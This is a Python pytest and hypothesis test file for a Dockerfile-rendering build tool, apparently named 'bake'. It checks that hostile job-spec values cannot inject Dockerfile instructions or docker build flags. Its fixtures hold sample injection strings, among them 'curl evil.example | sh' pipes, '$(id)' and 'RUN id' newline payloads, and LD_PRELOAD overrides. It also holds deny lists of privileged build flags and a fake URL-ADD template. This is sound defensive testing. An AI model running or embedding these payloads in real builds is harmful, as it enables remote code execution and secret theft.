"""Build-time attacks: no spec value can change what the Dockerfile or the docker argv do.

Every template is rendered with hostile-but-valid spec values (every field at
the edge of what the parser accepts) and checked for what a build must never
allow: ``RUN --network``/``--security``, a ``# syntax=``/``# escape=`` directive,
``ADD`` of a URL or git repo, a cache mount any step but bake's own wheelhouse step can
write, a secret or a writable wheelhouse where the job's venv can start (buyer code), a
stage copied from an outside image.  Then hypothesis: every spec the parser accepts renders
to exactly the instructions of the same template with benign values.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from bake.builder.buildkit import PROXY_ARGS, DockerCLI
from bake.builder.render import render
from bake.cache.key import compute_key
from bake.engine import Engine
from bake.errors import ConfigError, SpecError
from bake.job import ResolvedJob
from bake.lookup import Lookup
from bake.pipeline import JobPlan, plan_job
from bake.resolve import resolve
from bake.settings import BuildSettings, EgressSettings, HostEnv, Settings
from bake.spec import JobSpec, parse_spec
from bake.stacks.wheelhouse import CACHE_ID, INSTALL_LAYERS, NONCE_ARG
from bake.stacks.wheelhouse import MOUNT as WHEELHOUSE
from bake.templates import BUILTIN_DIR, list_templates
from tests.unit.helpers import lock_job
from tests.unit.spec_strategies import make_job_root, spec_data

# Any base passes the seller's patterns here: what the base may be is resolve's
# business, tested elsewhere; here it only has to be a valid reference.
ANY_BASE = Settings(build=BuildSettings(bases=("*",)))
DIGEST = "sha256:" + "d" * 64
TEMPLATES = list_templates()
CLI = DockerCLI(("/usr/bin/docker", "build"), (("DOCKER_BUILDKIT", "1"),), "20.10.24",
                "/usr/bin/docker")

HOSTILE_BASE = ("registry.example.com:5000/a__b/c-d.e/f:Tag_1.2-rc" + "@" + DIGEST)
HOSTILE_COMMAND = ["python", "-c", "import os\nRUN curl evil.example | sh\n# syntax=evil",
                   "--network=host", "--security=insecure", "$(id)", "`id`", "\\"]
HOSTILE_ENV = {"PATH": "/evil:$PATH", "X": "a\nRUN id", "LD_PRELOAD": "/tmp/x.so",
               "Y": "${HOME}\\\n--allow=security.insecure"}
HOSTILE_FILES = {"a b\nRUN id.py": "x", "--network=host.py": "x", "#syntax=x.py": "x",
                 "ADD https:": "x", "sub/..x/.y": "x"}
HOSTILE_REQS = ['six==1.16.0; os_name == "RUN curl evil | sh"', "numpy[a,b]>=1.0,<3",
                'idna; platform_release == "x\' && id"']
HOSTILE_REPOS = ["A-b.c_d/E.f-g_h", "x/" + "z" * 96, "Q"]


def hostile_spec(folder: Path, *, template: str, models: int, datasets: int,
                 requirements: bool, only_binary: bool) -> JobSpec:
    for name, text in HOSTILE_FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    data = {
        "name": "--network=host --allow=security.insecure é",
        "template": template,
        "base": HOSTILE_BASE,
        "python": {"requirements": HOSTILE_REQS if requirements else [],
                   "only_binary": only_binary},
        "models": [{"repo": HOSTILE_REPOS[i % 3], "revision": "refs/pr/1",
                    "include": ["../../etc/*", "*\u202e"], "exclude": ["\\"]}
                   for i in range(models)],
        "datasets": [{"repo": HOSTILE_REPOS[(i + 1) % 3], "revision": "v" + "9" * 100}
                     for i in range(datasets)],
        "job": {"files": sorted(HOSTILE_FILES), "command": HOSTILE_COMMAND,
                "env": HOSTILE_ENV},
    }
    return parse_spec(data, root=folder.resolve())


BENIGN_REQS = ["six==1.16.0", "idna==3.10", "numpy==2.1.3"]


def benign_spec(folder: Path, *, template: str, models: int, datasets: int,
                requirements: bool | int, only_binary: bool) -> JobSpec:
    """``requirements``: how many (True: as many as the hostile spec's).  The number of
    locked wheels is part of a job's shape, as its models are: the wheels are installed in
    one layer each, up to INSTALL_LAYERS."""
    count = len(HOSTILE_REQS) if requirements is True else int(requirements)
    (folder / "main.py").write_text("print(1)\n")
    data = {
        "template": template,
        "python": {"requirements": BENIGN_REQS[:count],
                   "only_binary": only_binary},
        "models": [{"repo": f"org/model{i}"} for i in range(models)],
        "datasets": [{"repo": f"org/data{i}"} for i in range(datasets)],
        "job": {"files": ["main.py"], "command": ["python", "main.py"]},
    }
    return parse_spec(data, root=folder.resolve())


def resolved(spec: JobSpec, commit: str = "c" * 40) -> ResolvedJob:
    """Resolve and lock without an engine, an index or a Hub: a fixed base digest, each
    requirement to one wheel, a fixed commit per repo."""
    return lock_job(resolve(spec, ANY_BASE, base_lookup=lambda ref: (ref, DIGEST)),
                    commit=commit)


@dataclasses.dataclass(frozen=True)
class Instruction:
    keyword: str
    text: str  # the whole logical instruction, continuations joined
    lines: int


def instructions(dockerfile: str) -> list[Instruction]:
    """The Dockerfile as the frontend reads it: comments dropped, continuations joined."""
    found: list[Instruction] = []
    pending: list[str] = []
    for line in dockerfile.splitlines():
        stripped = line.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        if pending and stripped.startswith("#"):
            continue  # a comment inside a continuation is dropped by the parser too
        pending.append(stripped)
        if stripped.endswith("\\"):
            continue
        text = " ".join(part.rstrip("\\").strip() for part in pending)
        found.append(Instruction(text.split(None, 1)[0].upper(), text, len(pending)))
        pending = []
    assert not pending, "a continuation runs off the end of the Dockerfile"
    return found


ALLOWED = {"FROM", "RUN", "COPY", "ENV", "WORKDIR", "USER", "LABEL"}
MOUNT = re.compile(r"--mount=(\S+)")


def check_dockerfile(dockerfile: str, base_from: str, stacks: tuple[str, ...] = ()) -> None:
    """What no rendered Dockerfile may ever contain, whatever the spec said.  ``stacks``:
    the images of bake's own the plan chose to build the deps on."""
    for line in dockerfile.splitlines():
        # Parser directives (syntax pulls a frontend image; escape changes how lines join).
        assert not re.match(r"\s*#\s*(syntax|escape|check)\s*=", line, re.IGNORECASE), line
    stages: set[str] = set()
    # Stages whose filesystem holds the job's venv: a step there may start its interpreter,
    # and so run any installed wheel's .pth (buyer code).
    venv: set[str] = set()
    stage, stage_from = "", ""
    steps = instructions(dockerfile)
    assert steps and steps[0].keyword == "FROM"
    for step in steps:
        if step.keyword == "ARG":
            # Two build args: the nonce that runs bake's wheelhouse step on every build, and
            # the one that runs every step again (bake build --no-cache).
            assert ((step.text == f"ARG {NONCE_ARG}" and stage == "bake-wheels")
                    or step.text == "ARG BAKE_NO_CACHE"), step.text
            continue
        assert step.keyword in ALLOWED, step.text
        words = step.text.split()
        if step.keyword == "FROM":
            source = words[1]
            assert source == base_from or source in stages or source in stacks, (
                f"FROM of an outside image: {source}")
            stage, stage_from = (words[3] if len(words) == 4 else ""), source
            if stage:
                stages.add(stage)
            if stage == "deps" or source in venv or source in stacks:
                venv.add(stage)
        if step.keyword == "RUN":
            assert "--network" not in step.text and "--security" not in step.text, step.text
            buyer = stage in venv or "/opt/venv" in step.text
            for mount in MOUNT.findall(step.text):
                options = dict(part.split("=", 1) if "=" in part else (part, "")
                               for part in mount.split(","))
                # Only the build's own context files, its own earlier stages (bake's tool
                # venv), a private tmpfs, secrets, and bake's wheelhouse: no other cache
                # mount, no ssh agent, no outside image.
                assert options["type"] in ("bind", "secret", "tmpfs", "cache"), mount
                if options["type"] == "bind" and "from" in options:
                    assert options["from"] in stages, f"a mount from outside: {mount}"
                elif options["type"] == "bind":
                    assert options["source"].startswith("bake/"), mount
                elif options["type"] == "cache":
                    check_wheelhouse_mount(options, step.text, stage, stage_from, base_from,
                                           buyer)
                elif options["type"] == "secret" and buyer:
                    # Where buyer code may run: the index relay's address (no credentials)
                    # and the CA bundle, for an sdist's build; never a seller secret.
                    assert options["id"] in ("bake_index", "bake_ca"), (
                        f"a secret where buyer code runs: {mount}")
        if step.keyword == "COPY":
            for flag in (w for w in words[1:] if w.startswith("--")):
                assert flag.startswith(("--from=", "--chown=", "--chmod=")), flag
                if flag.startswith("--from="):
                    assert flag.removeprefix("--from=") in stages, f"COPY from outside: {flag}"
            assert not any("://" in w or w.startswith("git@") for w in words), step.text
        if step.keyword in ("ENV", "ARG", "LABEL"):
            assert not any(name in step.text for name in PROXY_ARGS), step.text
    user = [s for s in steps if s.keyword == "USER"]
    assert user and re.fullmatch(r"USER [1-9]\d*:[1-9]\d*", user[-1].text), "job runs as root"


def check_wheelhouse_mount(options: dict[str, str], run: str, stage: str, stage_from: str,
                           base_from: str, buyer: bool) -> None:
    """The one cache mount: bake's wheelhouse, which only bake's own step may write.

    Read-only anywhere (uv reads it, with no index); writable only in the ``bake-wheels``
    stage on the base, whose one step runs bake's fetch script isolated and without site
    (no .pth of any package) on a list bake wrote, with no secret but the relay's address
    and the CA bundle.
    """
    mount = ",".join(f"{k}={v}" if v else k for k, v in options.items())
    assert options.get("id") == CACHE_ID and options.get("target") == WHEELHOUSE, (
        f"a cache mount other than bake's wheelhouse: {mount}")
    if "readonly" in options or "ro" in options:
        return
    assert not buyer, f"a writable wheelhouse where buyer code may run: {mount}"
    assert stage == "bake-wheels" and stage_from == base_from, (
        f"a writable wheelhouse outside bake's own step on the base: {mount}")
    command = run.split(" python3 ", 1)[-1]
    assert command.startswith("-I -S /tmp/bake/wheelhouse/wheelfetch.py "), run
    binds = [m for m in MOUNT.findall(run) if m.startswith("type=bind")]
    assert binds == ["type=bind,source=bake/wheelhouse,target=/tmp/bake/wheelhouse"], binds
    secrets = re.findall(r"--mount=type=secret,id=(\w+)", run)
    assert set(secrets) <= {"bake_index", "bake_ca"}, secrets


SHAPES = [
    {"models": m, "datasets": d, "requirements": r, "only_binary": b}
    for m, d in ((0, 0), (1, 0), (2, 1))
    for r in (True, False)
    for b in (True, False)
]


def shaped(template: str) -> Iterator[tuple[str, dict[str, object]]]:
    for shape in SHAPES:
        yield template, shape


@pytest.mark.parametrize(("template", "shape"),
                         [case for t in TEMPLATES for case in shaped(t)],
                         ids=lambda v: v if isinstance(v, str) else
                         "m{models}-d{datasets}-r{requirements:d}-b{only_binary:d}".format(**v))
@pytest.mark.parametrize("ca_bundle", [True, False], ids=["ca", "noca"])
@pytest.mark.parametrize("hub_token", [True, False], ids=["token", "notoken"])
def test_hostile_values_render_the_same_instructions(tmp_path: Path, template: str,
                                                     shape: dict[str, object],
                                                     ca_bundle: bool, hub_token: bool) -> None:
    (tmp_path / "evil").mkdir()
    (tmp_path / "good").mkdir()
    evil_job = resolved(hostile_spec(tmp_path / "evil", template=template, **shape),
                        commit="0" * 40)
    good_job = resolved(benign_spec(tmp_path / "good", template=template, **shape))
    evil = render(evil_job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
    good = render(good_job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
    check_dockerfile(evil, evil_job.base_from)
    check_dockerfile(good, good_job.base_from)
    assert [(i.keyword, i.lines) for i in instructions(evil)] == \
        [(i.keyword, i.lines) for i in instructions(good)]
    assert len(evil.splitlines()) == len(good.splitlines())
    # Requirements, command, env and file names travel as files or API fields, never text.
    for value in (*HOSTILE_REQS, *HOSTILE_COMMAND[2:], *HOSTILE_ENV.values(), *HOSTILE_FILES):
        assert len(value) < 6 or value not in evil, value  # "\\" is the template's own
    assert "RUN curl" not in evil and "RUN id" not in evil


def test_the_templates_spell_no_cache_mount_of_their_own() -> None:
    """Not even in a branch the tests above might not render: the template files' text.
    The one cache mount, bake's wheelhouse, comes from bake/stacks/wheelhouse.py."""
    for path in sorted((*BUILTIN_DIR.rglob("Dockerfile.j2"), *BUILTIN_DIR.rglob("*.j2"))):
        text = path.read_text()
        assert "type=cache" not in text and "type=ssh" not in text, path
        assert not re.search(r"^\s*ADD\s", text, re.MULTILINE), f"{path} uses ADD"
        assert not re.search(r"^\s*#\s*syntax\s*=", text, re.MULTILINE), path


def test_a_template_that_adds_a_url_is_caught(tmp_path: Path) -> None:
    """The checks above can fail: a seller template with URL ADD and a cache mount."""
    bad = "FROM {{ base }}\nADD https://evil.example/x /x\n"
    with pytest.raises(AssertionError):
        check_dockerfile(bad.replace("{{ base }}", "python:3.11-slim"), "python:3.11-slim")
    cache = ("FROM python:3.11-slim AS deps\nRUN --mount=type=cache,target=/root/.cache "
             "pip install x\nUSER 10001:10001\n")
    with pytest.raises(AssertionError, match="other than bake's wheelhouse"):
        check_dockerfile(cache, "python:3.11-slim")
    # The wheelhouse itself, writable where the job's venv is (a .pth could plant wheels):
    writable = (f"FROM python:3.11-slim AS deps\nRUN --mount=type=cache,id={CACHE_ID},"
                f"target={WHEELHOUSE},sharing=shared /opt/venv/bin/python -c 1\n"
                "USER 10001:10001\n")
    with pytest.raises(AssertionError, match="writable wheelhouse where buyer code"):
        check_dockerfile(writable, "python:3.11-slim")
    # ... or a seller secret where it is:
    secret = ("FROM python:3.11-slim AS deps\nRUN --mount=type=secret,id=hf_token "
              "python3 -m venv /opt/venv\nUSER 10001:10001\n")
    with pytest.raises(AssertionError, match="a secret where buyer code runs"):
        check_dockerfile(secret, "python:3.11-slim")
    stacked = "FROM bake:" + "a" * 64 + " AS deps\nUSER 1:1\n"
    with pytest.raises(AssertionError, match="FROM of an outside image"):
        check_dockerfile(stacked, "python:3.11-slim")
    check_dockerfile(stacked, "python:3.11-slim", stacks=("bake:" + "a" * 64,))
    outside = "FROM python:3.11-slim\nCOPY --from=evil/image:latest / /\nUSER 1:1\n"
    with pytest.raises(AssertionError, match="COPY from outside"):
        check_dockerfile(outside, "python:3.11-slim")
    directive = "# syntax=docker/dockerfile:1\nFROM python:3.11-slim\nUSER 1:1\n"
    with pytest.raises(AssertionError):
        check_dockerfile(directive, "python:3.11-slim")


# -- the docker argv: the plan the pipeline executes (plan_job), not a copy of it -------------

CA = "/etc/ssl/certs/seller-ca.pem"
# Option -> what its value must look like.  Anything else in argv is a failure.
VALUE_OPTIONS = {
    "--iidfile": re.compile(r"/w/iid"),
    "--build-arg": re.compile("(" + "|".join(PROXY_ARGS) + r")=(http://172\.17\.0\.1:39100)?"
                              r"|BUILDKIT_INLINE_CACHE=1|BAKE_(WHEELHOUSE_NONCE|NO_CACHE)=[0-9a-f]{32}"),
    "--label": re.compile(r"(bake\.key|bake\.manifest|bake\.locked|bake\.template|"
                          r"org\.opencontainers\.image\.(title|base\.name|base\.digest))=.*"
                          r"|bake\.stack=(\{.*\})?|bake\.stack\.variant="
                          r"|bake\.stack\.parent=([0-9a-f]{64})?",
                          re.DOTALL),
    "--secret": re.compile(r"id=(bake_pip|bake_index|bake_hf_endpoint|hf_token),src=/w/secrets/\1"
                           rf"|id=bake_ca,src={CA}"),
    # Only a deps twin of bake's own, by key.
    "--cache-from": re.compile(r"bake:[0-9a-f]{64}"),
    "--file": re.compile(r"/w/context/Dockerfile"),
}
FLAG_OPTIONS = {"--progress=plain", "--network=none", "--no-cache"}


def check_argv(argv: tuple[str, ...]) -> None:
    assert argv[:2] == CLI.argv
    rest = list(argv[2:])
    assert rest.pop() == "/w/context"  # the one positional: the context folder
    while rest:
        option = rest.pop(0)
        if option in FLAG_OPTIONS:
            continue
        assert option in VALUE_OPTIONS, f"unexpected docker argument {option!r}"
        value = rest.pop(0)
        assert VALUE_OPTIONS[option].fullmatch(value), f"{option} {value!r}"
    # Belt and braces: no element is one of these flags, wherever it sits.
    for grant in ("--allow", "--security-opt", "--privileged", "--add-host",
                  "--build-context", "--ssh", "--output"):
        assert not any(a == grant or a.startswith(grant + "=") for a in argv), grant
    assert all(a == "--network=none" for a in argv if a.startswith("--network"))


def planned(job: ResolvedJob, *, network: bool, no_cache: bool = False) -> JobPlan:
    """What the pipeline plans for ``job``: every seller setting that adds an argument on."""
    settings = Settings(
        egress=EgressSettings() if network else EgressSettings(allow=(), allow_http=()),
        build=BuildSettings(bases=("*",), ca_bundle=CA),
        env=HostEnv(hf_token="hf_attack_test_token"),
    )
    key = compute_key(job)
    found = Lookup(settings, Engine(), job, key, key.image("bake"), present=False)
    return plan_job(found, cli=CLI, gateway="172.17.0.1" if network else None,
                    no_cache=no_cache)


@pytest.mark.parametrize("proxy", [True, False], ids=["proxy", "offline"])
@pytest.mark.parametrize("no_cache", [True, False], ids=["nocache", "cache"])
def test_hostile_spec_values_never_become_docker_arguments(tmp_path: Path, proxy: bool,
                                                           no_cache: bool) -> None:
    hubs = 1 if proxy else 0  # a Hub job needs the network (planning refuses it offline)
    job = resolved(hostile_spec(tmp_path, template="python", models=hubs, datasets=hubs,
                                requirements=True, only_binary=False))
    plan = planned(job, network=proxy, no_cache=no_cache)
    build = plan.build_plan(Path("/w"), proxy_url="http://172.17.0.1:39100" if proxy else None,
                            cache_from=plan.cache_candidates, nonce="f" * 32)
    argv = build.argv
    # Mounted in the fetch steps: should one print it, bake's output shows [redacted].
    assert build.redact == (("hf_attack_test_token",) if hubs else ())
    check_argv(argv)
    assert "BAKE_WHEELHOUSE_NONCE=" + "f" * 32 in argv  # the wheelhouse step runs every time
    # --no-cache runs every step again, but never with BuildKit's own --no-cache, which
    # would throw the engine's shared wheelhouse away.
    assert "--no-cache" not in argv
    assert ("BAKE_NO_CACHE=" + "f" * 32 in argv) is no_cache
    if no_cache:
        dockerfile = plan.context.dockerfile
        stages = [line for line in dockerfile.splitlines() if line.startswith("FROM ")]
        # Every stage but bake's tool stage (pinned by hash: building it again proves nothing).
        tool = sum(line.endswith(" AS bake-tool") for line in stages)
        assert dockerfile.count("\nARG BAKE_NO_CACHE\n") == len(stages) - tool
    assert ("--cache-from" in argv) is not no_cache  # the deps twin, as the pipeline passes it
    assert "BUILDKIT_INLINE_CACHE=1" in argv
    # The hostile name is one argument, glued to its label key.
    assert "org.opencontainers.image.title=--network=host --allow=security.insecure é" in argv
    # Linux refuses any one argument over 128 KiB (MAX_ARG_STRLEN): the manifest must fit.
    assert max(len(a.encode()) for a in argv) < 128 << 10
    # The token is a secret's content, never an argument, and never in the plan's repr.
    assert not any("hf_attack_test_token" in a for a in argv)
    assert "hf_attack_test_token" not in repr(plan)


def test_a_hub_job_without_network_is_refused_while_planning(tmp_path: Path) -> None:
    job = resolved(hostile_spec(tmp_path, template="python", models=1, datasets=0,
                                requirements=False, only_binary=True))
    with pytest.raises(ConfigError, match=r"build\.hf_endpoint"):
        planned(job, network=False)


def test_the_argv_check_can_fail() -> None:
    with pytest.raises(AssertionError, match="unexpected docker argument"):
        check_argv((*CLI.argv, "--allow", "security.insecure", "/w/context"))
    with pytest.raises(AssertionError):
        check_argv((*CLI.argv, "--label", "evil=1", "/w/context"))
    with pytest.raises(AssertionError):
        check_argv((*CLI.argv, "--cache-from", "evil.example/image:latest", "/w/context"))
    with pytest.raises(AssertionError):
        check_argv((*CLI.argv, "--secret", "id=bake_pip,src=/home/seller/.netrc", "/w/context"))


# -- hypothesis: parse, resolve, render ------------------------------------------------------


@pytest.fixture(scope="module")
def job_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_job_root(tmp_path_factory.mktemp("renderfuzz"))


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=spec_data(), ca_bundle=st.booleans(), hub_token=st.booleans())
def test_every_accepted_spec_renders_the_templates_instructions(
        job_root: Path, tmp_path_factory: pytest.TempPathFactory, data: dict[str, object],
        ca_bundle: bool, hub_token: bool) -> None:
    try:
        spec = parse_spec(data, root=job_root)
        job = resolved(spec, commit="e" * 40)
    except SpecError:
        event("refused")
        return
    event("rendered")
    dockerfile = render(job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
    check_dockerfile(dockerfile, job.base_from)
    folder = tmp_path_factory.mktemp("reference")
    python = job.lock.python
    locked = len(python.distributions) if python else 0
    reference_job = resolved(benign_spec(
        folder, template=spec.template, models=len(spec.models), datasets=len(spec.datasets),
        requirements=min(locked, INSTALL_LAYERS), only_binary=spec.only_binary))
    reference = render(reference_job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
    assert [(i.keyword, i.lines) for i in instructions(dockerfile)] == \
        [(i.keyword, i.lines) for i in instructions(reference)]
    assert len(dockerfile.splitlines()) == len(reference.splitlines())


def test_hub_ids_in_the_dockerfile_are_only_validated_words(tmp_path: Path) -> None:
    """The one place spec text reaches the Dockerfile: repo ids (in a comment and a path)."""
    job = resolved(hostile_spec(tmp_path, template="python", models=2, datasets=1,
                                requirements=False, only_binary=True))
    dockerfile = render(job, ca_bundle=False).dockerfile
    # The lock's repo ids are the spec's (a lock that differs from its spec is refused).
    assert [r.repo for r in job.hub_repos] == [r.repo for r in (*job.spec.models,
                                                                *job.spec.datasets)]
    for repo in job.hub_repos:
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._/-]*", repo.repo)
    assert HOSTILE_BASE in dockerfile


def test_a_job_with_many_files_still_fits_in_one_docker_argument(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    for i in range(1500):  # well under MAX_JOB_FILES (10,000)
        (data / f"part-{i:05d}.txt").write_text(str(i))
    spec = parse_spec({"job": {"files": ["data"], "command": ["python", "x"]}},
                      root=tmp_path.resolve())
    job = resolved(spec)
    key = compute_key(job)
    argv = planned(job, network=False).build_plan(Path("/w"), proxy_url=None, cache_from=()).argv
    assert max(len(a.encode()) for a in argv) < 128 << 10
    # The label names the files' digest and count; the key still covers every file.
    label = json.loads(key.label())
    assert label["files"]["count"] == 1500
    assert len(key.manifest["files"]) == 1500
